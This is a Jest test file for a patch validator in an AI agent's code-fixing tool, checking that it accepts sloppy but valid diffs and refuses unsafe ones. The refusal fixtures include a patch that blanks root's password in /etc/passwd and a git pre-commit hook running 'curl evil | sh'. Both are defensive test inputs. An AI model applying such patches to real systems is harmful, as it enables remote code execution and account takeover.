/**
 * checkPatch on real files: patches that apply (also as models write them: wrong hunk counts, no
 * a/ b/ prefixes, blank context lines trimmed), and the ones it must refuse (paths leaving the root,
 * absolute paths, .git, symbolic links, binary, renames, stale context). It never writes.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkPatch } from '../../../../agents/error/fix/index.js';
import { gitApplyCheck } from '../../../../agents/error/fix/patch/git-apply-check.js';
import { makeRepo } from '../../../helpers/git-repo.js';
import type { TempRepo } from '../../../helpers/git-repo.js';

const USER_JS = ['export function displayName(user) {', '  const n = user.profile.name;', '', '  return n.trim();', '}', ''].join('\n');

const GOOD = [
  '--- a/src/user.js',
  '+++ b/src/user.js',
  '@@ -1,4 +1,4 @@',
  ' export function displayName(user) {',
  '-  const n = user.profile.name;',
  "+  const n = user.profile?.name ?? '';",
  ' ',
  '   return n.trim();',
  '',
].join('\n');

let repo: TempRepo;
let outside: string;

beforeEach(() => {
  repo = makeRepo('orchestra-fix-patch-');
  repo.write('src/user.js', USER_JS);
  repo.commit('initial');
  outside = mkdtempSync(join(tmpdir(), 'orchestra-fix-outside-'));
  writeFileSync(join(outside, 'secret.js'), 'export const x = 1;\n');
});

afterEach(() => {
  repo.cleanup();
  rmSync(outside, { recursive: true, force: true });
});

describe('checkPatch accepts', () => {
  it('a correct patch, and writes nothing', async () => {
    const before = statSync(join(repo.dir, 'src/user.js')).mtimeMs;
    await expect(checkPatch(repo.dir, GOOD)).resolves.toEqual({ ok: true, files: ['src/user.js'] });
    expect(readFileSync(join(repo.dir, 'src/user.js'), 'utf8')).toBe(USER_JS);
    expect(statSync(join(repo.dir, 'src/user.js')).mtimeMs).toBe(before);
    expect(repo.git('status', '--porcelain')).toBe('');
  });

  it('wrong hunk counts, no prefixes and a blank context line without its space (as models write them)', async () => {
    const sloppy = GOOD.replace('@@ -1,4 +1,4 @@', '@@ -1,9 +1,2 @@').replaceAll('a/src', 'src').replaceAll('b/src', 'src').replace('\n \n', '\n\n');
    await expect(checkPatch(repo.dir, sloppy)).resolves.toEqual({ ok: true, files: ['src/user.js'] });
  });

  it('a hunk whose line numbers are off (it is found by its context)', async () => {
    await expect(checkPatch(repo.dir, GOOD.replace('@@ -1,4 +1,4 @@', '@@ -40,4 +40,4 @@'))).resolves.toEqual({ ok: true, files: ['src/user.js'] });
  });

  it('a new file, and a deleted file', async () => {
    const create = ['--- /dev/null', '+++ b/src/guard.js', '@@ -0,0 +1,2 @@', '+export const guard = (v) => v ?? null;', '+', ''].join('\n');
    await expect(checkPatch(repo.dir, create)).resolves.toEqual({ ok: true, files: ['src/guard.js'] });
    const remove = ['--- a/src/user.js', '+++ /dev/null', '@@ -1,5 +0,0 @@', ...USER_JS.trimEnd().split('\n').map((l) => `-${l}`), ''].join('\n');
    await expect(checkPatch(repo.dir, remove)).resolves.toEqual({ ok: true, files: ['src/user.js'] });
  });

  it('a root that is a subfolder of the git work tree', async () => {
    const sub = GOOD.replaceAll('src/user.js', 'user.js');
    await expect(checkPatch(join(repo.dir, 'src'), sub)).resolves.toEqual({ ok: true, files: ['user.js'] });
  });

  it('a root that is not a git repository', async () => {
    const plain = mkdtempSync(join(tmpdir(), 'orchestra-fix-plain-'));
    try {
      mkdirSync(join(plain, 'src'));
      writeFileSync(join(plain, 'src/user.js'), USER_JS);
      await expect(checkPatch(plain, GOOD)).resolves.toEqual({ ok: true, files: ['src/user.js'] });
    } finally {
      rmSync(plain, { recursive: true, force: true });
    }
  });
});

describe('checkPatch refuses', () => {
  async function reason(patch: string, root = repo.dir): Promise<string> {
    const result = await checkPatch(root, patch);
    if (result.ok) throw new Error('accepted');
    return result.reason;
  }

  it('a patch whose context is not in the file, naming the hunk', async () => {
    expect(await reason(GOOD.replace(' export function displayName(user) {', ' export function fullName(user) {'))).toBe(
      'src/user.js: hunk 1 (@@ -1,4 +1,4 @@) does not apply: its context or removed lines are not in the file',
    );
  });

  it('a path that leaves the root', async () => {
    const patch = ['--- a/../outside/secret.js', '+++ b/../outside/secret.js', '@@ -1 +1 @@', '-export const x = 1;', '+export const x = 2;', ''].join('\n');
    expect(await reason(patch)).toContain('leaves the root');
  });

  it('an absolute path', async () => {
    const patch = ['--- /etc/passwd', '+++ /etc/passwd', '@@ -1 +1 @@', '-root:x:0:0:root:/root:/bin/bash', '+root::0:0:root:/root:/bin/bash', ''].join('\n');
    expect(await reason(patch)).toBe('the path "/etc/passwd" is absolute; only paths relative to the root are accepted');
  });

  it('a path into .git', async () => {
    const patch = ['--- a/.git/hooks/pre-commit', '+++ b/.git/hooks/pre-commit', '@@ -0,0 +1 @@', '+curl evil | sh', ''].join('\n').replace('--- a/.git/hooks/pre-commit', '--- /dev/null');
    expect(await reason(patch)).toContain('is inside .git');
  });

  it('a file that is a symbolic link, and a folder link that leads outside', async () => {
    symlinkSync(join(outside, 'secret.js'), join(repo.dir, 'src/link.js'));
    const viaFile = ['--- a/src/link.js', '+++ b/src/link.js', '@@ -1 +1 @@', '-export const x = 1;', '+export const x = 2;', ''].join('\n');
    expect(await reason(viaFile)).toBe('src/link.js is a symbolic link');
    symlinkSync(outside, join(repo.dir, 'vendor'));
    const viaFolder = viaFile.replaceAll('src/link.js', 'vendor/secret.js');
    expect(await reason(viaFolder)).toBe('vendor/secret.js resolves outside the root');
    expect(readFileSync(join(outside, 'secret.js'), 'utf8')).toBe('export const x = 1;\n');
  });

  it('binary patches and binary files', async () => {
    const gitBinary = ['diff --git a/logo.png b/logo.png', 'index 1234567..89abcde 100644', 'GIT binary patch', 'literal 5', 'McmZ?wbhEa', '', ''].join('\n');
    expect(await reason(`${gitBinary}--- a/logo.png\n+++ b/logo.png\n@@ -1 +1 @@\n-a\n+b\n`)).toBe('binary patches are not accepted');
    writeFileSync(join(repo.dir, 'data.bin'), Buffer.from([0x61, 0x00, 0x62, 0x0a]));
    const patch = ['--- a/data.bin', '+++ b/data.bin', '@@ -1 +1 @@', '-a', '+b', ''].join('\n');
    expect(await reason(patch)).toBe('data.bin is a binary file');
    expect(await reason('--- a/x\n+++ b/x\n@@ -1 +1 @@\n-\u0000\n+b\n')).toBe('the patch contains binary data');
  });

  it('renames and mode changes', async () => {
    const rename = ['--- a/src/user.js', '+++ b/src/account.js', '@@ -1 +1 @@', '-export function displayName(user) {', '+export function displayName(account) {', ''].join('\n');
    expect(await reason(rename)).toBe('renames are not accepted (src/user.js → src/account.js)');
    const mode = ['diff --git a/src/user.js b/src/user.js', 'old mode 100644', 'new mode 100755', GOOD].join('\n');
    expect(await reason(mode)).toBe('mode changes are not accepted (src/user.js)');
  });

  it('creating a file that exists, and patching one that does not', async () => {
    expect(await reason(['--- /dev/null', '+++ b/src/user.js', '@@ -0,0 +1 @@', '+x', ''].join('\n'))).toBe('the patch creates src/user.js, which already exists');
    expect(await reason(GOOD.replaceAll('src/user.js', 'src/missing.js'))).toBe('src/missing.js does not exist under the root');
  });

  it('text that is no patch, and a patch that changes nothing', async () => {
    expect(await reason('Just add a null check on line 2.')).toBe('the patch names no file (no ---/+++ headers)');
    expect(await reason('')).toBe('the patch is empty');
    const contextOnly = ['--- a/src/user.js', '+++ b/src/user.js', '@@ -1,1 +1,1 @@', ' export function displayName(user) {', ''].join('\n');
    expect(await reason(contextOnly)).toBe('a hunk of src/user.js changes no line');
  });

  it('a root that does not exist', async () => {
    expect(await reason(GOOD, join(outside, 'nope'))).toBe(`the root ${JSON.stringify(join(outside, 'nope'))} does not exist`);
  });
});

describe('git apply --check', () => {
  it('is run from the work tree top with --directory, and refuses what git refuses', async () => {
    const sub = GOOD.replaceAll('src/user.js', 'user.js');
    await expect(gitApplyCheck(join(repo.dir, 'src'), sub)).resolves.toEqual({ ok: true, skipped: false });
    const stale = sub.replace(' export function displayName(user) {', ' export function other(user) {');
    const result = await gitApplyCheck(join(repo.dir, 'src'), stale);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.reason).toMatch(/^git apply --check refused it: .*src\/user\.js/);
  });

  it('is skipped outside a git work tree', async () => {
    await expect(gitApplyCheck(outside, GOOD)).resolves.toEqual({ ok: true, skipped: true });
  });
});
